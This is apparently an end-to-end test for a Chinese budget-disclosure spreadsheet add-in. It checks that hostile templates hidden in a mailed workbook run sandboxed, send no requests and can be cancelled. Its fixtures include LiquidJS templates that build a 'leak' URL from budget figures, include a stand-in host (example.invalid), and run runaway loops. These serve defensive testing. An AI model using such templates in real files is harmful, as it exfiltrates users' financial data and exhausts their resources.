// Templates stored in a workbook someone mailed run in a sandbox: includes resolve only against the templates
// themselves, so a template that builds a URL from the figures sends nothing anywhere; a runaway template is
// stopped by its limits, and the user can cancel a render that takes long.
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { paneRig } from "./support";
import { SEED } from "./seed-variant";

describe("e2e: hostile templates stored in a workbook (browser mode)", function () {
  this.timeout(300_000);
  let file: string;

  const rig = paneRig("real", {
    prepare: async (server) => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(fs.readFileSync(SEED) as unknown as ArrayBuffer);
      const store = wb.addWorksheet("_预算公开助手", { state: "veryHidden" });
      // The attack of the issue: a URL built from the figures, fetched by include (LiquidJS's browser fs uses XHR).
      store.addRow(["template:s02", "{% assign u = '/leak?total=' | append: 收入.总计 %}{% include u %}"]);
      store.addRow(["template:s03", `{% include '${server.url}leak2?dept=' %}{% render 'https://example.invalid/x' %}`]);
      store.addRow(["template:s04", "{% for i in (1..2000000000) %}{{ i }}{% endfor %}"]);
      // Loops that run until the time limit: a render long enough to cancel.
      for (const id of ["s05", "s06"]) store.addRow([`template:${id}`, "{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}"]);
      file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "budget-e2e-tpl-")), "来信附件.xlsx");
      fs.writeFileSync(file, new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer));
    },
    open: async (page, server) => {
      await page.goto(server.url + "taskpane.html");
      await page.setInputFiles("#file-input", file);
      await page.waitForSelector("#btn-check");
    },
  });

  it("renders the hostile templates in a worker, reports them in Chinese and makes no request", async () => {
    const before = rig.watch.requested.length;
    await rig.page.click("#tab-narrative");
    await rig.page.click("#btn-narrative");
    await rig.page.waitForSelector(".narrative-findings li >> text=引用的模板", { timeout: 120_000 });
    const findings = (await rig.page.locator(".narrative-findings li").allTextContents()).join("\n");
    assert.match(findings, /引用的模板“\/leak\?total=[^”]*”不存在：include、render 只能按名称引用/);
    assert.match(findings, /运行时占用的内存超过上限|运行时间超过上限/);
    assert.doesNotMatch(findings, /Failed to lookup|limit exceeded|ENOENT/);
    const during = rig.watch.requested.slice(before);
    assert.deepEqual(during.filter((u) => /leak|example\.invalid/.test(u)), [], "no request carries the figures");
    assert.deepEqual(during.filter((u) => !/\.js$/.test(u)), [], "nothing but the worker's script was fetched");
    assert.ok(during.some((u) => /narrative.*\.js$/.test(u)), "the templates ran in the narrative worker");
    assert.deepEqual(rig.watch.external, []);
    // The other sections still rendered from the bundled templates.
    assert.match((await rig.page.locator(".narrative-section h3").allTextContents()).join("\n"), /一、部门职责及机构设置情况/);
  });

  it("a long render can be cancelled", async () => {
    await rig.page.click("#btn-narrative");
    await rig.page.waitForSelector("#btn-narrative-cancel:not([hidden])");
    await rig.page.click("#btn-narrative-cancel");
    await rig.page.waitForSelector(".message >> text=已取消生成说明");
    await rig.page.waitForSelector("#btn-narrative-cancel[hidden]", { state: "attached" });
    assert.deepEqual(rig.watch.pageErrors, []);
  });
});
